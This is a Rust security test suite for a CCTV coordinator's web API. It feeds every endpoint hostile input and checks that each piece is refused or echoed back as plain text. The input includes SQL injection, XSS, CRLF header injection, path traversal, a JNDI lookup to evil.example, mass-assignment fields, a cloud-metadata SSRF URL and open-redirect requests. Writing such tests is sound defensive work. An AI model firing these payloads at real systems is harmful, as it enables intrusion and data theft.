//! What attackers try first, at every operation of the document: text that means something to a
//! database, a log, a page or a header; paths; fields that nobody offered; sizes; foreign addresses.
//! A new operation is included by itself.

mod document;

use std::sync::Arc;
use std::sync::atomic::{AtomicU32, Ordering};

use cctv_coordinator::config::{Allowance, Bounded};
use serde_json::{Value, json};
use shared::clock::SystemClock;

use self::document::{Operation, encoded, operations, texts};
use crate::refusals::things::Things;
use crate::world::{Answer, Browser, PASSWORD, World};

/// Text that does harm where it is not treated as text.
const HOSTILE: [&str; 12] = [
    "' OR '1'='1' --",
    "\"; DROP TABLE users; --",
    "x' UNION SELECT login, password FROM users --",
    "\r\nSet-Cookie: cctv_session=stolen",
    "first\nERROR all is lost",
    "\u{1b}[2J\u{1b}[31mERROR",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "../../../../etc/passwd",
    "{{7*7}}${jndi:ldap://evil.example/a}",
    "\u{202e}evil\u{0}",
    "https://evil.example/",
];

/// A world with one of everything, and an administrator who asks.
struct Stand {
    world: World,
    admin: Browser,
    things: Things,
    asked: AtomicU32,
}

impl Stand {
    async fn new() -> Self {
        let world = world().await;
        let admin = world.admin().await;
        let things = Things::make(&world, &admin).await;
        Self {
            world,
            admin,
            things,
            asked: AtomicU32::new(0),
        }
    }

    /// A number that no other request has.
    fn number(&self) -> u32 {
        self.asked.fetch_add(1, Ordering::Relaxed)
    }

    fn path(&self, operation: &Operation) -> String {
        self.things.path(&operation.id, &operation.path, true)
    }

    /// A body with every field, which is carried out where nothing is wrong with it: things have
    /// names that are not taken, and those that are changed the revision that they have now.
    async fn body(&self, operation: &Operation) -> Option<Value> {
        operation.schema?;
        let path = self.path(operation);
        let mut body = self.things.body(&operation.id, 1);
        body = operation.complete(body);
        if body.get("revision").is_some() {
            // Agencies and roles are only listed, which may take several pages by now.
            let (list, name) = path.rsplit_once('/').unwrap();
            body["revision"] = self.revision(list, name).await;
        }
        let number = self.number();
        for (field, value) in [
            ("login", json!(format!("somebody{number}"))),
            ("employee_number", json!(number.to_string())),
            ("agency", json!("METRO")),
            ("roles", json!(["operator"])),
            (
                "group_id",
                self.things.body("add_user_to_group", 1)["group_id"].clone(),
            ),
        ] {
            if body.get(field).is_some() {
                body[field] = value;
            }
        }
        if let Some(code) = body
            .get_mut("code")
            .filter(|_| operation.id.starts_with("create_"))
        {
            let agency = operation.id == "create_agency";
            *code = json!(if agency {
                format!("A{number}")
            } else {
                format!("role{number}")
            });
        }
        if body["name"]["en"].is_string() {
            body["name"]["en"] = json!(format!("Name {number}"));
        }
        if operation.id == "prepare_playback" {
            body["camera_id"] = self.things.body(&operation.id, 1)["camera_id"].clone();
        }
        Some(body)
    }

    async fn revision(&self, list: &str, name: &str) -> Value {
        let mut page = format!("{list}?limit=200");
        loop {
            let listed = self.admin.get(&page).await.body;
            let mut items = listed["items"].as_array().unwrap().iter();
            let one = items.find(|it| it["code"] == name || it["id"] == name);
            if let Some(one) = one {
                return one["revision"].clone();
            }
            let next = listed["next"].as_str().expect("the thing is listed");
            page = format!("{list}?limit=200&after={next}");
        }
    }

    /// As the administrator; what is for nobody signed in from another address each time, so that
    /// wrong passwords make nobody wait.
    async fn send(&self, operation: &Operation, path: &str, body: Option<&Value>) -> Answer {
        let method = operation.method.clone();
        if ["sign_in", "finish_sign_in", "issue_tokens"].contains(&operation.id.as_str()) {
            let [_, a, b, c] = self.number().to_be_bytes();
            let nobody = self.world.nobody_at([127, a, b, c.max(2)].into());
            return nobody.send(method, path, body, &[]).await;
        }
        self.admin.send(method, path, body, &[]).await
    }
}

/// Nobody limits these tests; limits have their own.
async fn world() -> World {
    World::start_with(Arc::new(SystemClock::new()), |config| {
        let plenty = Allowance {
            per_second: Bounded::new(1_000_000),
            burst: Bounded::new(1_000_000),
        };
        config.limits.user = plenty;
        config.limits.address = plenty;
        config.limits.media = plenty;
    })
    .await
}

/// Refused in our envelope or answered, but never broken, redirected or of another kind.
fn is_sane(what: &str, answer: &Answer) {
    let status = answer.status.as_u16();
    // 503 is what an agent that is not connected gives.
    assert!(
        status < 500 || status == 503,
        "{what}: {status} {:?}",
        answer.body
    );
    assert!(!answer.status.is_redirection(), "{what}: {status}");
    if answer.status.is_client_error() {
        assert!(!answer.code().is_empty(), "{what}: {status}");
        assert_eq!(answer.header("content-type"), "application/json", "{what}");
    }
    // A browser takes nothing of it for a page.
    assert!(!answer.header("content-type").contains("html"), "{what}");
    assert_eq!(answer.header("x-content-type-options"), "nosniff", "{what}");
    // No page of others shows it in a frame, whatever it is.
    assert_eq!(answer.header("x-frame-options"), "DENY", "{what}");
    let policy = answer.header("content-security-policy");
    assert!(
        policy.contains("frame-ancestors 'none'"),
        "{what}: {policy}"
    );
    assert!(!answer.header("cache-control").is_empty(), "{what}");
    assert!(!answer.header("set-cookie").contains("stolen"), "{what}");
}

#[tokio::test]
async fn hostile_text_is_text_in_every_path_and_query() {
    let stand = Stand::new().await;
    for operation in operations() {
        let body = stand.body(&operation).await;
        for text in HOSTILE {
            let what = format!("{} {text:?}", operation.id);
            if operation.has_path_parameter() {
                let path = operation.path_with(text);
                let answer = stand.send(&operation, &path, body.as_ref()).await;
                is_sane(&what, &answer);
                assert!(answer.status.is_client_error(), "{what}: {}", answer.status);
            }
            let path = stand.path(&operation);
            let path = path.split('?').next().unwrap();
            for name in operation.query_parameters() {
                let path = format!("{path}?{name}={}", encoded(text));
                is_sane(&what, &stand.send(&operation, &path, None).await);
            }
        }
    }
    stands_as_before(&stand).await;
}

/// Every field of every body is reached: the other fields are right, so that some of the text is
/// refused for what it is, and the rest comes back as it was sent.
#[tokio::test]
async fn hostile_text_is_text_in_every_field() {
    let stand = Stand::new().await;
    let (mut fields, mut kept) = (0, 0);
    for operation in operations() {
        let Some(body) = stand.body(&operation).await else {
            continue;
        };
        for field in texts(&body) {
            fields += 1;
            for text in HOSTILE {
                let mut body = stand.body(&operation).await.unwrap();
                *body.pointer_mut(&field).unwrap() = text.into();
                let path = stand.path(&operation);
                let answer = stand.send(&operation, &path, Some(&body)).await;
                let what = format!("{} {field} {text:?}", operation.id);
                is_sane(&what, &answer);
                let said = answer.body.pointer(&field).and_then(Value::as_str);
                if let Some(said) = said.filter(|_| answer.status.is_success()) {
                    assert_eq!(said, text.trim(), "{what}");
                    kept += 1;
                }
            }
        }
    }
    // Logins, passwords, names, rules, codes, times, ids; of names much is allowed, and kept.
    assert!(fields > 60 && kept > 100, "{fields} fields, {kept} kept");
    stands_as_before(&stand).await;
}

/// Nobody was thrown out or became somebody else, and everything can still be listed.
async fn stands_as_before(stand: &Stand) {
    let me = stand.admin.get("/api/v1/session").await;
    assert_eq!(
        (me.status.as_u16(), &me.body["login"]),
        (200, &json!("admin"))
    );
    for list in ["users", "groups", "roles", "agencies"] {
        let path = format!("/api/v1/iam/{list}?limit=200");
        let answer = stand.admin.get(&path).await;
        assert_eq!(answer.status, 200, "{list}: {:?}", answer.body);
        is_sane(list, &answer);
    }
    let operator = stand.world.signed_in("operator-of-metro", PASSWORD).await;
    let refused = operator.get("/api/v1/iam/users").await;
    assert_eq!(refused.code(), "forbidden");
    let entries = stand.admin.get("/api/v1/audit?text=script").await;
    is_sane("audit", &entries);
    let table = stand.admin.get("/api/v1/audit/export").await;
    assert_eq!(table.header("content-type"), "text/csv; charset=utf-8");
    assert_eq!(
        table.header("content-disposition"),
        "attachment; filename=\"audit.csv\""
    );
}

#[tokio::test]
async fn fields_that_nobody_offered_are_refused() {
    let stand = Stand::new().await;
    // Whoever sends events says more in them than we look at.
    let ours = operations()
        .into_iter()
        .filter(|operation| operation.id != "receive_iam_event");
    for operation in ours {
        let offered = operation.fields();
        for (name, value) in [
            ("id", json!("01954f3e-8d2f-7c51-a3b0-d6a4f1c2e3b4")),
            ("role", json!("administrator")),
            ("is_admin", json!(true)),
            ("status", json!("ACTIVE")),
            ("groups", json!(["01954f3e-8d2f-7c51-a3b0-d6a4f1c2e3b4"])),
            ("built_in", json!(true)),
            ("password_hash", json!("x")),
            ("__proto__", json!({ "admin": true })),
            ("url", json!("http://169.254.169.254/latest/meta-data")),
        ] {
            let Some(mut body) = stand.body(&operation).await else {
                continue;
            };
            if offered.iter().any(|offered| offered == name) {
                continue;
            }
            body[name] = value;
            let path = stand.path(&operation);
            let answer = stand.send(&operation, &path, Some(&body)).await;
            let what = format!("{} with `{name}`", operation.id);
            assert_eq!(answer.code(), "invalid_value", "{what}: {}", answer.status);
        }
    }
}

/// What could make the coordinator, or an agent, ask another host: there is nothing that people can
/// send. Cameras are configured where the agent is installed, and what is measured there is named by
/// its id.
#[tokio::test]
async fn nobody_can_name_a_host_to_be_asked() {
    // Compared with what stands in the audit; nobody is asked.
    const COMPARED: [(&str, &str); 2] = [("search_audit", "address"), ("export_audit", "address")];
    for operation in operations() {
        let parameters = operation.parameters.iter();
        let parameters = parameters.map(|it| it["name"].as_str().unwrap().to_owned());
        for name in operation.fields().into_iter().chain(parameters) {
            let compared = COMPARED.contains(&(operation.id.as_str(), name.as_str()));
            let hints = [
                "url", "uri", "host", "address", "endpoint", "callback", "webhook", "port",
            ];
            let names_host = name.split('_').any(|part| hints.contains(&part));
            assert!(
                compared || !names_host,
                "{} takes `{name}`: refuse addresses of the inside, and test it",
                operation.id
            );
        }
    }
}

#[tokio::test]
async fn what_is_oversized_is_refused_before_it_is_worked_on() {
    let stand = Stand::new().await;
    let world = &stand.world;
    let long = "x".repeat(1_000_000);
    for operation in operations() {
        let path = stand.path(&operation);
        let body = stand.body(&operation).await;
        for body in body.iter() {
            for field in texts(body) {
                let mut body = body.clone();
                *body.pointer_mut(&field).unwrap() = long.as_str().into();
                let answer = stand.send(&operation, &path, Some(&body)).await;
                let what = format!("{} {field}", operation.id);
                assert_eq!(answer.code(), "payload_too_large", "{what}");
            }
        }
        if operation.has_path_parameter() {
            let path = operation.path_with(&long[..10_000]);
            let answer = stand.send(&operation, &path, body.as_ref()).await;
            assert!(answer.status.is_client_error(), "{}", operation.id);
        }
    }
    let deep = format!("{}{}", "[".repeat(30_000), "]".repeat(30_000));
    let head = format!(
        "POST /api/v1/session HTTP/1.1\r\nhost: x\r\nx-requested-with: test\r\nconnection: close\r\n\
         content-type: application/json\r\ncontent-length: {}\r\n\r\n{deep}",
        deep.len()
    );
    let (status, answer) = world.raw(head.as_bytes()).await;
    assert!((400..500).contains(&status), "{answer}");
}

#[tokio::test]
async fn nothing_leads_to_another_host() {
    let world = world().await;
    for request in [
        "GET //evil.example/ HTTP/1.1\r\nhost: x",
        "GET /\\evil.example HTTP/1.1\r\nhost: x",
        "GET /%2f%2fevil.example/.. HTTP/1.1\r\nhost: x",
        "GET /api/docs HTTP/1.1\r\nhost: evil.example",
        "GET /api/docs//evil.example HTTP/1.1\r\nhost: x",
        "GET /assets//evil.example/ HTTP/1.1\r\nhost: x",
        "GET /?next=https://evil.example/ HTTP/1.1\r\nhost: x",
        "GET / HTTP/1.1\r\nhost: x\r\nx-forwarded-host: evil.example",
    ] {
        let text = format!("{request}\r\nconnection: close\r\n\r\n");
        let (_, answer) = world.raw(text.as_bytes()).await;
        let head = answer.split("\r\n\r\n").next().unwrap_or_default();
        let location = head.lines().find(|line| line.starts_with("location:"));
        assert!(
            location.is_none_or(|line| line == "location: /api/docs/"),
            "{request}: {location:?}"
        );
        assert!(!head.contains("evil.example"), "{request}: {head}");
    }
}

#[tokio::test]
async fn what_people_typed_cannot_pass_for_a_line_of_the_audit_or_a_header() {
    let world = world().await;
    let admin = world.admin().await;
    let path = "/api/v1/session";
    let login = "admin\r\nSet-Cookie: cctv_session=stolen";
    let answer = world.nobody().sign_in(login, "<script>").await;
    assert!(answer.status.is_client_error());
    assert_eq!(answer.header("set-cookie"), "");
    // A header that is no header does not get as far as an answer of ours.
    let request = format!(
        "GET {path} HTTP/1.1\r\nhost: x\r\nx-request-id: a\rb\r\nconnection: close\r\n\r\n"
    );
    let (status, _) = world.raw(request.as_bytes()).await;
    assert_eq!(status, 400);
    assert_eq!(admin.get(path).await.status, 200);
}
